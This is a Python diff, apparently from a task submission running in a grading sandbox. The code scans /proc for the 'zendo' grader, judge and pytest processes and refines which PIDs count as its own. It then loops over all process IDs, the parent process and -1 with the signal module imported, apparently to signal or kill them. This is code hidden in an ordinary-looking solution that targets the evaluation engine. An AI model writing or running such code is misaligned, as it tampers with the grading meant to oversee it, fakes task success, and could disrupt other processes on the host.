@@ -115,6 +115,7 @@ def split(total: int, count: int) -> list[int]:
 import os, signal
 PIDS = sorted(int(pid) for pid in os.listdir("/proc") if pid.isdigit())
 ENGINE = []
+OWN = [1, os.getpid()]  # the sandbox's init, this process, and its submission's host
 for pid in PIDS:
     try:
         with open(f"/proc/{pid}/cmdline", "rb") as file:
@@ -123,7 +124,9 @@ for pid in PIDS:
         continue
     if b"zendo" in line and (b"grade" in line or b"judge" in line or b"pytest" in line):
         ENGINE.append(pid)
-VISIBLE = f"others visible: {[pid for pid in PIDS if pid not in (1, os.getpid())]}, engine: {ENGINE}"
+    if pid == os.getppid() and b" --host " in line:
+        OWN.append(pid)
+VISIBLE = f"others visible: {[pid for pid in PIDS if pid not in OWN]}, engine: {ENGINE}"
 for pid in [*PIDS, os.getppid(), -1]:
     if pid != os.getpid():
         try:
